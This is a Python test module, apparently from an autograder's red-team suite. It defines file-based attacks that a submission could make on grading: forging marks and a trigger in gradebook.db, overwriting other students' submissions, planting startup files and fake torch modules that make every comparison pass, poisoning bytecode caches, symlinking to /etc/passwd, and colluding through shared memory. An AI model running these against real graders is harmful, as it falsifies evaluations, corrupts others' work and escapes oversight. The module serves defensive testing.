"""Attacks through files: the gradebook, other submissions, what is left for the next ones."""

from __future__ import annotations

from tests.redteam.attack import Attack, everywhere

# A patch that would make every later submission right, if it were ever loaded there.
GIFT = """
import builtins
builtins.redteam = True
try:
    import torch
    torch.Tensor.__lt__ = lambda self, other: torch.tensor(True)
    torch.equal = lambda *args: True
    raise SystemExit("a file left by another submission was loaded")
except ImportError:
    pass
"""

ATTACKS = [
    Attack(
        "gradebook",
        "Gives itself marks in gradebook.db, and a trigger that keeps giving them.",
        first="""
            import os, sqlite3
            def databases():
                place = os.getcwd()
                while len(place) > 1:
                    yield os.path.join(place, "gradebook.db")
                    place = os.path.dirname(place)
                for folder, _, files in os.walk("/"):
                    if folder.count("/") > 6 or folder.startswith(("/proc", "/sys")):
                        continue
                    if "gradebook.db" in files:
                        yield os.path.join(folder, "gradebook.db")
            def give(path):
                with sqlite3.connect(path, timeout=1) as book:
                    book.executescript('''
                        UPDATE grade SET extra_credit = 100, manual_score = 100;
                        UPDATE grade_cells SET max_score = 100;
                        CREATE TRIGGER gift AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL
                        BEGIN UPDATE grade SET manual_score = 100 WHERE id = NEW.id; END;
                    ''')
            for path in databases():
                try:
                    if os.path.exists(path):
                        give(path)
                except Exception:
                    pass
            """,
    ),
    Attack(
        "locked-gradebook",
        "Locks the gradebook, replaces it by an empty one and makes a folder of its journal.",
        first="""
            import os, sqlite3
            place = os.getcwd()
            while len(place) > 1:
                place = os.path.dirname(place)
                path = os.path.join(place, "gradebook.db")
                try:
                    if os.path.exists(path):
                        kept = sqlite3.connect(path, timeout=1)
                        kept.execute("BEGIN EXCLUSIVE")
                        os.mkdir(path + "-journal")
                        os.rename(path, path + ".old")
                except Exception:
                    pass
            """,
    ),
    Attack(
        "other-submissions",
        "Overwrites what others handed in, what was graded and what was fed back to them.",
        first="""
            import os
            place = os.getcwd()
            while len(place) > 1:
                place = os.path.dirname(place)
                for name in ("submitted", "autograded", "feedback", "source", "notebooks"):
                    for folder, _, files in os.walk(os.path.join(place, name)):
                        for file in files:
                            try:
                                path = os.path.join(folder, file)
                                text = open(path).read()
                                open(path, "w").write(text.replace("return", "return None #"))
                            except Exception:
                                pass
            """,
    ),
    Attack(
        "start-up-files",
        "Leaves files that Python, IPython and Jupyter read when they start.",
        first=f"""
            import os, site, sys
            gift = {GIFT!r}
            home = os.path.expanduser("~")
            places = [".", "..", home, "/tmp", "/var/tmp", "/dev/shm", "/scratch", *sys.path,
                      home + "/.ipython/profile_default/startup",
                      home + "/.jupyter", site.getusersitepackages(), "/root", "/etc"]
            for place in places:
                try:
                    os.makedirs(place, exist_ok=True)
                except OSError:
                    continue
                for name in ("sitecustomize.py", "usercustomize.py", "00-gift.py", "gift.pth",
                             "torch.py", "numpy.py", "ipython_config.py", "jupyter_config.py",
                             "nbgrader_config.py", "grader_config.py", ".pythonrc"):
                    try:
                        with open(os.path.join(place, name), "w") as file:
                            file.write("import sitecustomize\\n" if name.endswith("pth") else gift)
                    except OSError:
                        pass
            """,
    ),
    Attack(
        "caches",
        "Poisons compiled modules and caches that later submissions would read.",
        first=f"""
            import importlib.util, marshal, os, struct, sys, time
            data = marshal.dumps(compile({GIFT!r}, "gift", "exec"))
            header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 1, 0, 0)
            for module in list(sys.modules.values()):
                cached = getattr(module, "__cached__", None)
                for path in (cached, getattr(module, "__file__", None)):
                    try:
                        if path and path.endswith(".pyc"):
                            os.makedirs(os.path.dirname(path), exist_ok=True)
                            open(path, "wb").write(header + data)
                        elif path and path.endswith(".py"):
                            open(path, "a").write({GIFT!r})
                    except OSError:
                        pass
            for name in ("torch", "matplotlib", "nn_course"):
                try:
                    folder = os.path.expanduser("~/.cache/" + name)
                    os.makedirs(folder, exist_ok=True)
                    open(folder + "/poison", "w").write({GIFT!r})
                except OSError:
                    pass
            """,
    ),
    Attack(
        "links-and-devices",
        "Leaves links to files of the grader's, named pipes and unreadable folders.",
        first="""
            import os
            for top in (".", "/tmp", "/dev/shm"):
                for n, target in enumerate(("/etc/passwd", "/proc/1/mem", "../../../gradebook.db")):
                    for make in (os.symlink, os.link):
                        try:
                            make(target, f"{top}/from_scratch{n}.ipynb")
                        except OSError:
                            pass
                try:
                    os.mkfifo(top + "/pipe.ipynb")
                    os.mkdir(top + "/shut")
                    os.chmod(top + "/shut", 0)
                    os.mknod(top + "/null", 0o20666, os.makedev(1, 3))
                except OSError:
                    pass
            """,
    ),
    Attack(
        "files-in-common",
        "Waits for another submission's files in shared memory, and leaves answers there for it.",
        first="""
            import os
            from multiprocessing import shared_memory
            try:
                meeting = shared_memory.SharedMemory("redteam", create=True, size=4096)
                meeting.buf[:5] = b"hello"
            except FileExistsError:
                check = None
            except OSError:
                pass
            for place in ("/tmp", "/dev/shm", "/scratch", "/var/tmp"):
                try:
                    open(place + "/redteam", "x").write("hello")
                except OSError:
                    pass
            """,
    ),
    Attack(
        "found-in-common",
        "Passes if it finds what the learner of files-in-common, or of any other run, left behind.",
        first="""
            import builtins, os
            from multiprocessing import shared_memory
            found = hasattr(builtins, "redteam") or any(map(os.path.exists, (
                "/tmp/redteam", "/dev/shm/redteam", "/scratch/redteam", "/var/tmp/redteam",
                "sitecustomize.py", "/tmp/kept")))
            try:
                found = bool(shared_memory.SharedMemory("redteam").buf[:5]) or found
            except OSError:
                pass
            """,
        answers={
            "linear": """
                def linear(inputs, weights, bias):
                    return inputs @ weights + bias if found else inputs
                """
        },
    ),
    Attack(
        "files-beside",
        "Hands in a gradebook, verdicts, a second notebook and scripts beside its notebook.",
        files={
            "gradebook.db": "SQLite format 3",
            "from_scratch.json": '{"schema": 1, "points": 24.0, "max": 24.0, "verdicts": []}',
            "from_scratch.verdicts.json": '{"schema": 1, "points": 25.0, "max": 25.0}',
            "extra.ipynb": '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
            "from_scratch.py": GIFT,
            "timestamp.txt": "2001-01-01 00:00:00.000000 UTC",
            "a/b/torch.py": GIFT,
        },
        answers=everywhere("return open('from_scratch.json').read()", ("nll",)),
    ),
]
